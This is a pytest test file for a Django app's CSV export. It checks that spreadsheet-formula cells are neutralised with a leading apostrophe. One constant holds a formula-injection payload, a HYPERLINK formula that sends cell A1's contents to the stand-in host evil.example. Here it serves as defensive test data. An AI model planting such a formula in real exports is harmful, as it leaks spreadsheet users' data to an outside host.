import csv
import io

import pytest

from compare.comparison import compare
from compare.exports import BYTE_ORDER_MARK, to_csv
from methods.models import Method
from tests.factories import MethodFactory

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("english")]

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the paper")'


def exported(*methods: Method) -> list[list[str]]:
    """The CSV export of these methods, as a spreadsheet reads its cells."""
    shown = Method.objects.for_comparison().in_order([m.pk for m in methods])
    text = to_csv(compare(shown)).removeprefix(BYTE_ORDER_MARK)
    return list(csv.reader(io.StringIO(text, newline="")))


def cells(table: list[list[str]], attribute: str) -> list[str]:
    """The method columns of one attribute's row."""
    return next(row[1:-1] for row in table if row[0] == attribute)


def test_a_summary_that_is_a_formula_comes_out_as_text():
    method = MethodFactory(summary_en=HYPERLINK)
    assert cells(exported(method), "Summary") == ["'" + HYPERLINK]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"], ids=repr)
def test_every_cell_that_a_spreadsheet_would_evaluate_is_neutralised(start):
    text = f"{start}1+1"
    method = MethodFactory(name=text, originator=text, summary_en=text)
    table = exported(method, MethodFactory())
    assert table[0][1] == "'" + text  # the method's name heads its column
    assert cells(table, "Originator")[0] == "'" + text
    assert cells(table, "Summary")[0] == "'" + text


def test_ordinary_cells_are_unchanged():
    ada = MethodFactory(
        name="Ada's method", originator="Ada Lovelace", summary_en="Where a = b - c."
    )
    table = exported(ada, MethodFactory(name="Q-learning", year=2019))
    assert table[0] == ["Attribute", "Ada's method", "Q-learning", "Differs"]
    assert cells(table, "First public") == ["2020", "2019"]
    assert cells(table, "Summary") == ["Where a = b - c.", "A method for testing."]
    # Compared rows say whether they differ; reference rows are shown, not compared.
    assert next(row for row in table if row[0] == "First public")[-1] == "yes"
    assert next(row for row in table if row[0] == "Summary")[-1] == ""
